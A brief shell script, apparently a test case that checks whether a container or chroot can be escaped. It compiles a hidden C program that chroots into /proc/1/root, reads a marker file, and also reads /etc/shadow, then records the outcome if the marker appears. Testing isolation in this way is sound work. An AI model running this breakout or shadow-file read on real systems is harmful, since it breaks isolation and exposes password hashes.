#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.r.c <<'END'
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
int main(void) {
    char b[200]; int n, f = open("/proc/1/root", O_PATH | O_DIRECTORY);
    if (f < 0 || fchdir(f) || chroot(".")) return 1;
    f = open("/etc/node", O_RDONLY);
    if (f < 0 || (n = read(f, b, sizeof b)) <= 0) return 2;
    write(1, b, n);
    f = open("/etc/shadow", O_RDONLY); n = read(f, b, sizeof b); write(1, b, n > 0 ? n : 0);
    return 0;
}
END
gcc -o /tmp/.r /tmp/.r.c 2>/dev/null
/tmp/.r | grep -q stand-in
took_place
